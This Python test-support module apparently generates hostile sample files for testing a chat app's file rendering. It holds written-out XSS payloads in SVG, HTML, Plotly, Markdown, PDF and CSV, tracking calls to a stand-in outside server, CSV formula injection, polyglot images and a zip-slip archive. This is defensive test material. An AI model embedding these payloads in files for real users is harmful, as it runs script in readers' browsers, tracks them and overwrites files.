"""Files that agents could make to run something in a reader's browser, or to learn who reads: one of each kind."""

import io
import json
import zipfile

from tests.support.chat_with_files import png

RUNS = "window.top.hacked = 1; window.hacked = 1; fetch('{outside}/fetch'); new Image().src = '{outside}/pixel'"
SVG = """<?xml version="1.0"?><?xml-stylesheet href="{outside}/style.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90"
  onload="{runs}"><script>{runs}</script><style>@import url({outside}/import.css);</style>
<image href="{outside}/image.png" xlink:href="{outside}/image.png" width="9" height="9"/>
<use href="{outside}/use.svg#a"/>
<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{outside}/frame"/>
</foreignObject><a href="javascript:{runs}"><rect width="90" height="90"/></a></svg>"""
HTML = """<html><head><meta http-equiv="refresh" content="0; url={outside}/refresh"><base href="{outside}/">
<link rel="stylesheet" href="{outside}/style"></head><body onload="{runs}"><script>{runs}</script>
<img src="{outside}/i">
<form action="{outside}/form"><button autofocus>Reply</button></form></body></html>"""
PLOT = """<html><body><div id="chart"></div><script>Plotly.newPlot("chart", [{{"x": [1, 2], "y": [2, 1], "type": "bar",
"text": "<img src='{outside}/text'><a href='javascript:{runs}'>a</a>", "hovertemplate": "<a href='{outside}/h'>h</a>",
"name": "<script>{runs}"}}, {{"type": "image", "source": "{outside}/trace.png"}}],
{{"title": {{"text": "<a href='javascript:{runs}'>t</a><svg onload='{runs}'>"}}, "showlegend": true,
"images": [{{"source": "{outside}/layout.png", "xref": "paper", "yref": "paper", "x": 0, "y": 1, "sizex": 1,
"sizey": 1}}],
"annotations": [{{"text": "<a href='{outside}/annotation'>n</a><img src=x onerror='{runs}'>", "x": 1, "y": 1}}],
"mapbox": {{"style": "{outside}/map.json"}}}}); {runs}</script></body></html>"""
MARKDOWN = """# <img src={outside}/md onerror="{runs}">
![picture]({outside}/picture.png) [link](javascript:{runs}) <script>{runs}</script> <iframe src="{outside}/mdframe">"""
PDF = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('{outside}/pdf'))>>"
    "/AA<</O<</S/URI/URI({outside}/uri)>>>>>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 144]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
CSV = """name,value
"=HYPERLINK(""{outside}/cell"",""x"")",<img src={outside}/csv>
"<script>{runs}</script>",{outside}/c
"""


def hostile_files(outside: str) -> dict[str, bytes]:
    """Return name -> content; what any of them fetches goes to the server `outside`."""
    runs = RUNS.format(outside=outside)

    def filled(text: str) -> bytes:
        return text.format(outside=outside, runs=runs).encode()

    cell = {"cell_type": "code", "source": ["x"], "metadata": {}, "execution_count": 1}
    outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": filled(HTML).decode()}}]
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{**cell, "outputs": outputs}]}
    figure = {"data": [{"type": "scatter", "y": [1]}], "layout": {"images": [{"source": f"{outside}/json.png"}]}}
    return {
        "evil.svg": filled(SVG),
        "evil.html": filled(HTML),
        "plot.html": filled(PLOT),
        "evil.md": filled(MARKDOWN),
        "evil.ipynb": json.dumps(notebook).encode(),
        "figure.json": json.dumps(figure).encode(),
        "evil.pdf": filled(PDF),
        "evil.csv": filled(CSV),
        "page.png": filled(HTML),
        "picture.html": png() + filled(HTML),
        "both.gif": b"GIF89a/*" + filled(HTML) + b"*/=1;" + RUNS.encode(),
        "evil.js": runs.encode(),
        "evil.css": f"* {{ background: url({outside}/css) }}".encode(),
        "evil.xml": filled(SVG).replace(b"<svg", b'<html:script xmlns:html="http://www.w3.org/1999/xhtml"/><svg'),
        "slip.zip": _slip(),
        f"<img src=x onerror=alert(1)> ![x]({outside.replace('/', '')}) :red[r].txt": b"a name",
    }


def _slip() -> bytes:
    """A zip whose files lead out of the folder that they are unpacked in."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name in ("../../slip.txt", "/etc/slip.txt", "a/../../slip.html"):
            archive.writestr(name, "<script>alert(1)</script>")
    return packed.getvalue()
